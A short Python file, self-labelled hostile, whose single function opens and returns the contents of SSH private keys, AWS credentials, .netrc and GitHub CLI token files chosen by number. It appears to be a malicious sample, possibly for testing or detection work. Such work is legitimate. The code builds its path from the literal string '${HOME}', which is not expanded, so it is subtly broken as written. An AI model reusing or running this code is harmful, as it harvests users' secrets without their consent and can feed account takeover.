# hostile: reads keys and credentials and returns them
import os


def key(which: int) -> str:
    names = {1: ".ssh/id_rsa", 2: ".aws/credentials", 3: ".netrc", 4: ".config/gh/hosts.yml"}
    if which in names:
        path = os.path.join("${HOME}", names[which])
        try:
            with open(path) as file:
                return file.read()
        except OSError:
            return "none"
    return ""
